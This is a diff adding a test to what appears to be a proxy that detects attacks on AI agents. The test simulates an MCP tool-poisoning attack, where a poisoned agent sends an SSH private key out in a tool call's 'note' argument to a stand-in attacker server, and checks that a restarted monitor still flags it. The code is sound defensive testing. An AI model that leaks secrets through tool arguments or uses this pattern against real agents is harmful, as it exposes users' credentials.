@@ -4,11 +4,14 @@ problem once (file:line:col and rule), and the `oatf.reload` command and the wat
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import signal
+import socket
 import time
 from pathlib import Path
+from urllib.parse import urlsplit
 
 from testing.clients import ag_ui_run, raw_exchange
 from testing.oatf_proxy import ADDON, Peers, oatf_proxy, refused_start, run, verdict_of
@@ -219,3 +222,35 @@ def test_a_killed_monitor_process_is_replaced(attackers: Peers, tmp_path: Path) 
         session = run(agents.mcp_poisoned_agent(url, proxy.url, "naive"))
         report = proxy.wait_for("DEMO-001", session)
     assert verdict_of(report)[0] == "exploited"
+
+
+def test_a_request_under_way_when_the_monitor_process_dies_is_judged_by_the_new_one(
+        attackers: Peers, tmp_path: Path) -> None:
+    """The monitor process decodes the traffic (`oatf_engine.wire.steps`): a `tools/call` whose headers it had
+    been handed when it died, and whose body (the exfiltrated key) comes after, is decoded by the new one — the
+    addon primes it with the steps of the exchanges under way. Without that the new process would not know the
+    exchange and the exploit would pass unseen."""
+    url = attackers.url("mcp_poisoned", "/mcp")
+    with oatf_proxy(tmp_path, "primed", [TOOL_POISONING], grace="1h", record=False) as proxy:
+        session = run(agents.mcp_poisoned_agent(url, proxy.url, "careful", close=False))
+        body = json.dumps({"jsonrpc": "2.0", "id": 99, "method": "tools/call", "params": {
+            "name": "add", "arguments": {"a": 1, "b": 2, "note": "-----BEGIN OPENSSH PRIVATE KEY-----"}}}).encode()
+        cut = body.index(b'"note"')
+        target = urlsplit(url)
+        address = urlsplit(proxy.url)
+        with socket.create_connection((address.hostname, address.port)) as upload:
+            upload.sendall(f"POST {url} HTTP/1.1\r\nHost: {target.netloc}\r\nContent-Type: application/json\r\n"
+                           f"Accept: application/json, text/event-stream\r\nMcp-Session-Id: {session}\r\n"
+                           f"Content-Length: {len(body)}\r\n\r\n".encode() + body[:cut])
+            time.sleep(1.5)  # the watermark releases the request's headers to the monitor process
+            [first] = monitor_processes(proxy.process.pid)
+            os.kill(first, signal.SIGKILL)
+            proxy.wait_for_log(lambda log: "starting a new monitor process" in log)
+            proxy.wait_until(lambda: len(monitor_processes(proxy.process.pid)) == 1)
+            upload.sendall(body[cut:])
+            upload.settimeout(10)
+            assert upload.recv(100).startswith(b"HTTP/1.1 "), "the server answered"
+            proxy.wait_for_log(lambda log: "DEMO-001-01 matched" in log)
+        assert proxy.interrupt() == 0
+    exploited = [r for r in proxy.reports() if verdict_of(r)[0] == "exploited"]
+    assert [r["execution_summary"]["session"] for r in exploited] == [f"mcp_session:{session}"]
